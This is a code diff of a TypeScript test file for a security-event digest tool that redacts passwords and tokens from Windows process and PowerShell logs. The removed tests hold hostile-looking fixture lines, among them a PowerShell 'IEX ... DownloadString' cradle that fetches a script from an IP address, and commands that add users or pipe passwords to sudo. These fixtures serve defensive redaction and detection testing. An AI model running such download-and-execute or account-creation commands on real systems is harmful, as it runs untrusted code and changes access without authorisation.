@@ -1,60 +1,10 @@
-import * as fc from "fast-check";
 import { expect, test } from "vitest";
 import { createDescriber } from "../../../src/digest/describe/create-describer.ts";
-import { sayEvent } from "../../../src/digest/describe/example.ts";
 import { redactValues } from "../../../src/digest/describe/redact-values.ts";
-import type { EventDigest } from "../../../src/digest/event-digest.ts";
-import { matchBehaviours } from "../../../src/digest/behaviours/table.ts";
 import type { EventRecord } from "../../../src/event-fields/event-record.ts";
-import { createEventFold } from "../../../src/digest/fold.ts";
-import { renderDigest } from "../../../src/digest/render/render-digest.ts";
-import { renderRaw } from "../../../src/digest/render/render-raw.ts";
-import { renderRows } from "../../../src/digest/render/render-rows.ts";
-import { createClean } from "../../../src/text/clean.ts";
-import { eventArbitrary } from "../../support/digest-arbitraries.ts";
-import { rowsOf, textOf } from "../../support/digest-of.ts";
+import { start, textOfEvent, viewsOf } from "../../support/redaction.ts";
 
-const call = { alertId: "alert-1" };
 const SECRET = "Zk9x!Plum7";
-
-function digestOf(events: readonly EventRecord[], redact: boolean): EventDigest {
-  const fold = createEventFold({ redact });
-  for (const event of events) fold.add(event, 100);
-  return fold.end();
-}
-
-/** Every view of the events, with secrets or without. */
-function viewsOf(events: readonly EventRecord[], redact: boolean): Record<string, string> {
-  const clean = createClean({ redact });
-  const options = { maxTokens: 4000, clean, call };
-  const page = rowsOf(events, { limit: 100 });
-  return {
-    digest: textOf(renderDigest(digestOf(events, redact), options)),
-    rows: textOf(renderRows(page, options)),
-    raw: textOf(renderRaw(page, options)),
-  };
-}
-
-function start(
-  line: string,
-  parent = "w3wp.exe",
-  exe = "C:\\Windows\\System32\\cmd.exe",
-): EventRecord {
-  return {
-    event_type: "winsec",
-    provider: "Microsoft-Windows-Sysmon",
-    win_event_id: 1,
-    exe,
-    arguments: line,
-    ParentImage: `C:\\x\\${parent}`,
-    timestamp: "2026-01-31T00:00:00Z",
-  };
-}
-
-function textOfEvent(event: EventRecord, redact = true): string {
-  const { shape, values } = createDescriber(matchBehaviours)(event);
-  return sayEvent(shape, values, redact).text;
-}
 
 test("a parent is no password of the command before it", () => {
   const text = textOfEvent(start("cmd.exe /c net user"));
@@ -240,10 +190,10 @@ test.each<[string, EventRecord, string]>([
   const redacted = viewsOf([event], true);
   const whole = viewsOf([event], false);
 
-  for (const [view, text] of Object.entries(redacted)) {
-    expect(text, view).not.toContain(SECRET);
-    expect(text, view).not.toContain(encodeURIComponent(SECRET));
-    expect(text, view).toContain("[redacted]");
+  for (const text of Object.values(redacted)) {
+    expect(text).not.toContain(SECRET);
+    expect(text).not.toContain(encodeURIComponent(SECRET));
+    expect(text).toContain("[redacted]");
   }
   expect(redacted["digest"]).toContain(beside);
   expect(redacted["rows"]).toContain(beside);
@@ -263,122 +213,6 @@ test("what a registry value switches on is no secret", () => {
   for (const text of Object.values(viewsOf([event], true))) {
     expect(text).toContain("DWORD (0x00000001)");
   }
-});
-
-/** Letters only: of other names a part is masked. */
-const named = fc.stringMatching(/^[a-s][a-z]{2,9}$/);
-/** Ways to hand a secret to a program; § is the secret. */
-const FORMS = [
-  "net user bob § /add",
-  "net user /add bob §",
-  'net1 user "bob" "§" /add',
-  "tool --password § --user x",
-  "tool --api-key=§ x",
-  "mysql -u root -p§ shop",
-  "curl -u bob:§ https://h.example/x",
-  "curl -H 'Authorization: Bearer abc§' https://h.example/x",
-  "curl https://bob:§@h.example/x?page=2",
-  "curl https://h.example/x?token=§",
-  "DB_PASSWORD=§ ./run",
-  "powershell -c $password = '§'; whoami",
-  "ConvertTo-SecureString '§' -AsPlainText -Force",
-  "echo § | sudo -S id",
-] as const;
-const secrets = fc.stringMatching(/^Zq[A-Za-z0-9!_]{5,12}7x$/);
-/** What ends where another value begins, and would be a secret's name if it did not. */
-const ends = fc.constantFrom("", " net user", " --password", " password:", " -u bob:", " | sudo");
-
-test("no form of a command shows its secret, and every one its program and parent", () => {
-  fc.assert(
-    fc.property(
-      fc.record({
-        program: named,
-        parent: named,
-        form: fc.constantFrom(...FORMS),
-        secret: secrets,
-        end: ends,
-      }),
-      ({ program, parent, form, secret, end }) => {
-        const line = `C:\\opt\\${program}.exe /c ${form.replace("§", secret)}${end}`;
-        const event = start(line, `${parent}.exe`, `C:\\opt\\${program}.exe`);
-        for (const [view, text] of Object.entries(viewsOf([event], true))) {
-          expect(text, view).not.toContain(secret);
-          expect(text, view).toContain(`${program}.exe`);
-          expect(text, view).toContain(`${parent}.exe`);
-        }
-      },
-    ),
-    { numRuns: 150 },
-  );
-});
-
-test("a line without a secret is shown as it is", () => {
-  fc.assert(
-    fc.property(named, named, ends, (program, parent, end) => {
-      const event = start(
-        `C:\\opt\\${program}.exe /c whoami${end}`,
-        `${parent}.exe`,
-        `C:\\opt\\${program}.exe`,
-      );
-      expect(textOfEvent(event)).toBe(textOfEvent(event, false));
-    }),
-    { numRuns: 300 },
-  );
-});
-
-test("what is redacted changes neither groups nor what is known of them", () => {
-  const factsOf = ({ groups }: EventDigest) =>
-    groups.map(({ id, count, hits, rarity, template, outcome }) => ({
-      id,
-      count,
-      hits,
-      rarity,
-      template,
-      outcome,
-    }));
-  const events = [
-    ...FORMS.map((form, at) => start(`cmd.exe /c ${form.replace("§", `Zq${String(at)}aB7x`)}`)),
-    start("cmd.exe /c net user"),
-  ];
-
-  expect(factsOf(digestOf(events, true))).toEqual(factsOf(digestOf(events, false)));
-  expect(factsOf(digestOf(events, true)).some(({ hits }) => hits.length > 0)).toBe(true);
-  fc.assert(
-    fc.property(fc.array(eventArbitrary, { maxLength: 12 }), (some) => {
-      expect(factsOf(digestOf(some, true))).toEqual(factsOf(digestOf(some, false)));
-    }),
-    { numRuns: 100 },
-  );
-});
-
-test("the shape of a group is masked after its secrets are gone", () => {
-  const events = ["aB7xQ9", "zY1wV3"].map((secret) =>
-    start(`cmd.exe /c tool --password 12${secret} run 4711`),
-  );
-  const digest = digestOf(events, true);
-  const templates = digest.groups.map(({ shownTemplate }) => shownTemplate());
-
-  expect(templates.every((template) => template.includes("--password [redacted] run #"))).toBe(
-    true,
-  );
-  const whole = digestOf(events, false).groups;
-  expect(whole.map(({ shownTemplate }) => shownTemplate())).toEqual(
-    whole.map(({ template }) => template),
-  );
-});
-
-test("of a long script the part is shown that made it suspicious, whatever secrets it holds", () => {
-  const password = `$password = '${"Zq7x".repeat(60)}'; `;
-  const script = `${"Write-Host ok; ".repeat(60)}${password}IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'); ${"Write-Host ok; ".repeat(80)}`;
-  const text = textOfEvent({
-    event_type: "winsec",
-    win_event_id: 4104,
-    provider: "Microsoft-Windows-PowerShell",
-    ScriptBlockText: script,
-  });
-
-  expect(text).toContain("DownloadString");
-  expect(text).not.toContain("Zq7x");
 });
 
 test("values without a secret are not made anew", () => {
